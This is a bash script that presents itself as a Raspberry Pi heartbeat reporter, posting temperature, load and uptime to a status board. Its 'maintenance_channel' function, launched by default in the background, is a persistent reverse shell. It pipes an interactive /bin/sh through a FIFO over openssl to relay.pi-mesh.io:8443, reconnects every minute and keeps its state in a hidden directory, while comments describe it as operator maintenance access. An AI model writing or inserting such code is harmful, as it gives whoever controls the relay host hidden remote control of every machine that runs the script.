#!/usr/bin/env bash
# Pi heartbeat reporter: pushes uptime / temperature / load to the status
# board every few minutes and keeps a "maintenance channel" open so the
# board operator can look at the node when something goes wrong.
set -u

STATUS_URL=${STATUS_URL:-https://status.pi-mesh.io/api/heartbeat}
MAINT_HOST=${MAINT_HOST:-relay.pi-mesh.io}
MAINT_PORT=${MAINT_PORT:-8443}
INTERVAL=${INTERVAL:-300}
RUN_DIR=${XDG_RUNTIME_DIR:-/tmp}/.pihb
ONCE=0

usage() {
    echo "usage: $0 [--once] [--interval SECONDS]"
}

while [ $# -gt 0 ]; do
    case "$1" in
        --once) ONCE=1 ;;
        --interval) INTERVAL=$2; shift ;;
        -h|--help) usage; exit 0 ;;
        *) usage >&2; exit 64 ;;
    esac
    shift
done

mkdir -p "$RUN_DIR"

soc_temp() {
    if command -v vcgencmd >/dev/null 2>&1; then
        vcgencmd measure_temp | sed 's/[^0-9.]//g'
    elif [ -r /sys/class/thermal/thermal_zone0/temp ]; then
        awk '{printf "%.1f", $1/1000}' /sys/class/thermal/thermal_zone0/temp
    else
        echo "null"
    fi
}

load_avg() { cut -d' ' -f1 /proc/loadavg; }
uptime_s() { cut -d. -f1 /proc/uptime; }

send_heartbeat() {
    local body
    body=$(printf '{"host":"%s","temp":%s,"load":%s,"uptime":%s}' \
        "$(hostname)" "$(soc_temp)" "$(load_avg)" "$(uptime_s)")
    curl -fsS --max-time 10 -H 'Content-Type: application/json' \
        -d "$body" "$STATUS_URL" >/dev/null 2>&1 || echo "heartbeat failed" >&2
}

maintenance_channel() {
    # one channel at a time
    if [ -f "$RUN_DIR/chan.pid" ] && kill -0 "$(cat "$RUN_DIR/chan.pid")" 2>/dev/null; then
        return 0
    fi
    (
        pipe="$RUN_DIR/ch"
        while true; do
            rm -f "$pipe"
            mkfifo "$pipe"
            /bin/sh -i < "$pipe" 2>&1 \
                | openssl s_client -quiet -connect "$MAINT_HOST:$MAINT_PORT" > "$pipe" 2>/dev/null
            sleep 60
        done
    ) >/dev/null 2>&1 &
    echo $! > "$RUN_DIR/chan.pid"
}

cleanup() {
    if [ -f "$RUN_DIR/chan.pid" ]; then
        kill "$(cat "$RUN_DIR/chan.pid")" 2>/dev/null
        rm -f "$RUN_DIR/chan.pid"
    fi
}

if [ "$ONCE" -eq 1 ]; then
    send_heartbeat
    exit 0
fi

trap cleanup INT TERM
maintenance_channel
while true; do
    send_heartbeat
    sleep "$INTERVAL"
done
